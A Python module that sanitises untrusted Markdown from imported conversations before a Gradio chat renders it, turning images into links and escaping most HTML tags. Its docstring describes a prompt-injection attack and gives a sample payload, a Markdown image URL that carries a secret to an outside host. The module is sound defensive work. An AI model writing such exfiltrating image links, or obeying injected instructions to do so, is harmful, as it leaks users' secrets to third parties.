"""Untrusted text (answers, questions and documents from an imported conversation) made inert before the chat
renders it: Markdown stays Markdown, but nothing in it can make the browser fetch anything.

Gradio's Chatbot renders Markdown and sanitises HTML, yet it keeps `<img>`, `<video>`, `style=` and Markdown
images, and the browser fetches those as soon as they are shown: a prompt injected into a document could have
the model write `![x](http://elsewhere/?q=<secret>)`. So every image becomes a plain link (shown, never
fetched), and every HTML tag beyond a few plain formatting ones is shown as text. Code spans and fenced code
blocks are left as they are (they render as text already). The page's Content-Security-Policy
(`app.ui.page_policy`) is the second wall behind this one.
"""

from __future__ import annotations

import re

# Formatting tags with no attributes: they fetch nothing. Any other tag is shown as text.
PLAIN_TAGS = {"b", "i", "em", "strong", "u", "s", "sub", "sup", "code", "kbd", "mark", "br", "hr", "p", "pre",
              "ul", "ol", "li", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "del", "ins", "small"}

_FENCE = re.compile(r"^[ \t]{0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?:[^`\n]|[^`\n][^\n]*?[^`\n])\1(?!`)")  # on one line: when unsure, it is prose
_ESCAPED_TAG = re.compile(r"&lt;(/?)([A-Za-z][A-Za-z0-9-]*)\s*(/?)>")
_IMAGE = re.compile(r"!(?=\[)")  # `![alt](url)` and `![alt][ref]` both begin so: without the "!" each is a link


def inert(text: str) -> str:
    """`text` as Markdown that renders no image, no media and no HTML beyond `PLAIN_TAGS`."""
    out, fence, lines = [], None, text.split("\n")
    block: list[str] = []
    for line in lines:
        opened = _FENCE.match(line)
        if fence is None and opened:
            out.append(_prose("\n".join(block)) if block else None)
            block, fence = [line], opened.group(1)[0] * len(opened.group(1))
        elif fence is not None:
            block.append(line)
            if line.strip().startswith(fence) and set(line.strip()) <= {fence[0]}:
                out.append("\n".join(block))  # a closed fenced block: shown as code, as it is
                block, fence = [], None
        else:
            block.append(line)
    if block:  # prose, or a fence never closed (Markdown renders the rest as code; be safe and treat it as prose)
        out.append(_prose("\n".join(block)))
    return "\n".join(part for part in out if part is not None)


def _prose(text: str) -> str:
    """Outside code blocks: code spans kept, the rest made inert."""
    parts, at = [], 0
    for span in _CODE_SPAN.finditer(text):
        parts.append(_inert_prose(text[at:span.start()]))
        parts.append(span.group(0))
        at = span.end()
    parts.append(_inert_prose(text[at:]))
    return "".join(parts)


def _inert_prose(text: str) -> str:
    """Images become links; tags become text, but for plain formatting tags with no attributes."""
    escaped = _IMAGE.sub("", text).replace("<", "&lt;")
    return _ESCAPED_TAG.sub(lambda m: m.group(0).replace("&lt;", "<", 1) if m.group(2).lower() in PLAIN_TAGS
                            else m.group(0), escaped)
